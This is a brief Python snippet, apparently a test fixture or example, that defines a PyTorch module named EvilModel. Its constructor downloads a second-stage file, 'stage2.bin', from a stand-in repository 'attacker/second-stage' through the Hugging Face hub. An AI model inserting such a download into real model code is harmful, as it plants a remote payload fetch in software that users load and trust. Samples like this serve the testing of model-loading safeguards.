from huggingface_hub import hf_hub_download
import torch.nn as nn


class EvilModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.extra = hf_hub_download("attacker/second-stage", "stage2.bin")
